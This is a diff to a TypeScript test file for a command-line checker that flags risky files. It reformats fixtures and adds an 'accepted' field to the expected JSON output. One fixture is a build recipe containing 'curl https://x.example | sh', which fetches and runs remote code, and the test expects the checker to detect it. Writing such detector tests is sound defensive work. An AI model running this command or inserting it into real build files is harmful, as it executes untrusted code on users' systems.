@@ -97,11 +97,20 @@ describe('check', () => {
   });
 
   test('a file that is named is judged by its content, whatever its name and place', async () => {
-    write({ 'node_modules/stack.txt': PRIVILEGED, recipe: 'FROM ubuntu\nRUN curl https://x.example | sh\n', 'notes.md': '# hi\n' });
+    write({
+      'node_modules/stack.txt': PRIVILEGED,
+      recipe: 'FROM ubuntu\nRUN curl https://x.example | sh\n',
+      'notes.md': '# hi\n',
+    });
     const { stdout } = await run('check --format json node_modules/stack.txt recipe notes.md');
     const paths = new Set(JSON.parse(stdout).findings.map((finding: Reported) => finding.path));
     expect(paths).toEqual(new Set(['node_modules/stack.txt', 'recipe']));
-    expect(JSON.parse((await run('check --format json')).stdout)).toEqual({ schemaVersion: 1, findings: [], gaps: [] });
+    expect(JSON.parse((await run('check --format json')).stdout)).toEqual({
+      schemaVersion: 1,
+      accepted: [],
+      findings: [],
+      gaps: [],
+    });
   });
 
   test('context is read from the repository around the current folder', async () => {
